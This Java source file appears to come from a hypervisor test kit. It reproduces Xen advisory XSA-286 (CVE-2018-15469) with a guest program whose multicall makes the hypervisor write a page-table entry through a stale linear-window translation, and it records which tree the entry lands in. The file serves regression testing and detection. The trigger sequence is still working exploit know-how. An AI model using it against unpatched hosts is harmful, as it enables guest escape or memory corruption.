package io.github.paravane.testkit.advisory.tlb;

import static io.github.paravane.testkit.asm.Gpr.RAX;
import static io.github.paravane.testkit.asm.Gpr.RBX;
import static io.github.paravane.testkit.asm.Memory.ptr;

import io.github.paravane.hypervisor.profiles.AbiProfiles;
import io.github.paravane.testkit.advisory.Advisory;
import io.github.paravane.testkit.advisory.BugGuest;
import io.github.paravane.testkit.advisory.GuestTrial;
import io.github.paravane.testkit.advisory.KnownBug;
import io.github.paravane.testkit.advisory.Layer;
import io.github.paravane.testkit.advisory.TableSteps;
import io.github.paravane.testkit.asm.Assembler;
import io.github.paravane.testkit.asm.Label;
import io.github.paravane.testkit.runtime.GuestRuntime;
import io.github.paravane.testkit.runtime.Hypercalls;

/** XSA-286: stale translations of the linear page-table window. */
final class StaleLinearWindow {

    private static final long LINEAR = 1L << 39;
    private static final int INVLPG_LOCAL = 2;

    private StaleLinearWindow() {}

    static KnownBug bug() {
        Advisory advisory = Advisory.of("xsa-286", Layer.TLB, "The hypervisor writes through a stale translation")
                .names("XSA-286", "CVE-2018-15469", "16a20963b3", "055e1c3a3d")
                .mechanism(
                        "update_va_mapping finds the L1 entry through the hypervisor's own linear mapping of the page"
                                + " tables. An update of an upper entry changes what that window shows, but the processor keeps"
                                + " the old translation: the next entry is written into the old L1 table.")
                .construction(
                        "One multicall: update_va_mapping of an address, mmu_update of its L3 entry to another tree, "
                                + "update_va_mapping again.")
                .telling("The entry is in the L1 table of the old tree, or of the new one.")
                .affected("3.4 (178c9c3991) to 4.14.0")
                .repaired("4.15 (16a20963b3, 055e1c3a3d), back to 4.10")
                .provenance("XSA-286; Xen commits 178c9c3991 and 16a20963b3; XTF test xsa-286")
                .build();
        return new KnownBug(
                advisory,
                AbiProfiles.XEN_4_12,
                AbiProfiles.XEN_4_14,
                GuestTrial.of(BugGuest.elf(StaleLinearWindow::guest)));
    }

    private static void guest(BugGuest guest) {
        TableSteps steps = new TableSteps(guest);
        GuestRuntime runtime = guest.runtime();
        Assembler asm = guest.asm();
        Label l3 = steps.page("l3");
        Label oldL2 = steps.page("old_l2");
        Label oldL1 = steps.page("old_l1");
        Label newL2 = steps.page("new_l2");
        Label newL1 = steps.page("new_l1");
        Label data = steps.page("data");
        Label calls = asm.label("calls");
        Label request = asm.label("request");
        runtime.data(() -> asm.align(8).bind(calls));
        runtime.data(() -> call(asm, Hypercalls.UPDATE_VA_MAPPING, LINEAR, 0, INVLPG_LOCAL, 0));
        runtime.data(() -> asm.u64(Hypercalls.MMU_UPDATE)
                .u64(0)
                .u64(request)
                .u64(1)
                .u64(0)
                .u64(0x7FF0)
                .zeros(16));
        runtime.data(() -> call(asm, Hypercalls.UPDATE_VA_MAPPING, LINEAR, 0, 0, 0));
        runtime.data(() -> asm.bind(request).u64(0).u64(0));
        steps.hook(LINEAR, l3, oldL2, oldL1)
                .fill(newL2, 0, newL1, TableSteps.TABLE)
                .freeze(newL2, newL1);
        steps.pin(2, oldL2).require("pinning the old tree").pin(2, newL2).require("pinning the new tree");
        steps.address(l3, 0);
        asm.mov(ptr(request), RAX);
        steps.entry(newL2, TableSteps.TABLE);
        asm.mov(ptr(request, 8), RAX);
        steps.entry(data, TableSteps.PAGE);
        asm.mov(ptr(calls, 2 * 64 + 24), RAX);
        runtime.call(Hypercalls.MULTICALL, calls, 3);
        steps.require("the multicall").show("old-l1-entry", oldL1, 0).show("new-l1-entry", newL1, 0);
        asm.mov(RAX, ptr(newL1))
                .and(RAX, 1)
                .mov(RBX, ptr(oldL1))
                .and(RBX, 1)
                .add(RBX, RBX)
                .or(RAX, RBX);
        guest.judge(RAX, 2, "the entry is in the old tree", 1, "the entry is in the new tree");
    }

    /** One call of a multicall: number, result, six arguments. */
    private static void call(Assembler asm, int number, long first, long second, long third, long fourth) {
        asm.u64(number).u64(0).u64(first).u64(second).u64(third).u64(fourth).zeros(16);
    }
}
